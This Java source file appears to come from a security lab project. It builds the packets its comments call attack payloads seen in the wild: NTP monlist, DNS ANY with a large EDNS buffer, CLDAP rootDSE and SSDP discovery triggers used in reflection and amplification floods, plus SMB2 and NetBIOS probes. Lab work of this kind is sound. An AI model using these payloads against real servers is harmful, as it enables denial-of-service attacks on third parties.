package org.sekimori.control.lab.attack;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;

/** The payloads of the attacks, as seen in the wild, each built as small as it works. */
public final class Messages {
    private static final HexFormat HEX = HexFormat.of();

    private static final String NTP_MONLIST = "1700032a00000000";
    private static final String NTP_READ_VARIABLES = "160200010000000000000000";
    private static final int NTP_LENGTH = 48;
    private static final byte NTP_VERSION_4_CLIENT = 0x23;

    private static final int DNS_TYPE_ANY = 255;
    private static final int DNS_CLASS_IN = 1;
    private static final String DNS_HEADER = "5e4b00000001000000000001";
    /** An OPT record: root name, type 41, 4,096 bytes, no flags, no data. */
    private static final String DNS_LARGE_ANSWERS = "0000291000000000000000";

    /** SearchRequest for the root object, no base, filter (objectClass=*), no attributes named: RFC 4511 in BER. */
    private static final String CLDAP_ROOT_DSE =
            "302502010163200400" + "0a01000a0100020100020100010100870b" + "6f626a656374636c617373" + "3000";

    private static final int SMB2_HEADER_LENGTH = 64;
    private static final int SMB2_NEGOTIATE_LENGTH = 36;
    private static final int SMB2_MAGIC = 0x424d53fe;
    private static final short SMB2_DIALECT_2_0_2 = 0x0202;

    private static final int NETBIOS_SESSION_REQUEST = 0x81;
    private static final int NETBIOS_NAME_LENGTH = 16;

    private Messages() {}

    /** Mode 7 MON_GETLIST_1: 8 bytes. */
    public static byte[] ntpMonlist() {
        return HEX.parseHex(NTP_MONLIST);
    }

    /** Mode 6 READVAR of the system: 12 bytes. */
    public static byte[] ntpReadVariables() {
        return HEX.parseHex(NTP_READ_VARIABLES);
    }

    /** A client's question for the time (mode 3): 48 bytes. */
    public static byte[] ntpTimeRequest() {
        byte[] message = new byte[NTP_LENGTH];
        message[0] = NTP_VERSION_4_CLIENT;
        return message;
    }

    /** A query for all records of a name, with room for a large answer. */
    public static byte[] dnsAny(String name) {
        ByteArrayOutputStream message = new ByteArrayOutputStream();
        message.writeBytes(HEX.parseHex(DNS_HEADER));
        for (String label : name.split("\\.")) {
            message.write(label.length());
            message.writeBytes(label.getBytes(StandardCharsets.US_ASCII));
        }
        message.write(0);
        message.writeBytes(new byte[] {0, (byte) DNS_TYPE_ANY, 0, DNS_CLASS_IN});
        message.writeBytes(HEX.parseHex(DNS_LARGE_ANSWERS));
        return message.toByteArray();
    }

    /** The 39 bytes that make a domain controller describe itself. */
    public static byte[] cldapRootDse() {
        return HEX.parseHex(CLDAP_ROOT_DSE);
    }

    /** Whoever is there, say so. */
    public static byte[] ssdpSearch() {
        return "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** SMB2 NEGOTIATE with one dialect, behind its length. */
    public static byte[] smbNegotiate() {
        int length = SMB2_HEADER_LENGTH + SMB2_NEGOTIATE_LENGTH + Short.BYTES;
        ByteBuffer message = ByteBuffer.allocate(Integer.BYTES + length).order(ByteOrder.BIG_ENDIAN);
        message.putInt(length);
        ByteBuffer smb = message.slice().order(ByteOrder.LITTLE_ENDIAN);
        smb.putInt(SMB2_MAGIC);
        smb.putShort((short) SMB2_HEADER_LENGTH);
        smb.position(SMB2_HEADER_LENGTH);
        short dialectCount = 1;
        short signingEnabled = 1;
        smb.putShort((short) SMB2_NEGOTIATE_LENGTH).putShort(dialectCount).putShort(signingEnabled);
        smb.putShort(SMB2_HEADER_LENGTH + SMB2_NEGOTIATE_LENGTH, SMB2_DIALECT_2_0_2);
        return message.array();
    }

    /** NetBIOS SESSION REQUEST from LAB to *SMBSERVER (RFC 1002, 4.3.2). */
    public static byte[] netbiosSessionRequest() {
        byte[] called = netbiosName("*SMBSERVER");
        byte[] calling = netbiosName("LAB");
        ByteArrayOutputStream message = new ByteArrayOutputStream();
        message.writeBytes(new byte[] {(byte) NETBIOS_SESSION_REQUEST, 0, 0, (byte) (called.length + calling.length)});
        message.writeBytes(called);
        message.writeBytes(calling);
        return message.toByteArray();
    }

    /** First-level encoding: 16 characters, padded by blanks, each half-byte a letter from A. */
    private static byte[] netbiosName(String name) {
        byte[] encoded = new byte[2 * NETBIOS_NAME_LENGTH + 2];
        encoded[0] = 2 * NETBIOS_NAME_LENGTH;
        for (int i = 0; i < NETBIOS_NAME_LENGTH; i++) {
            int character = i < name.length() ? name.charAt(i) : ' ';
            encoded[1 + 2 * i] = (byte) ('A' + (character >> 4));
            encoded[2 + 2 * i] = (byte) ('A' + (character & 0x0f));
        }
        return encoded;
    }
}
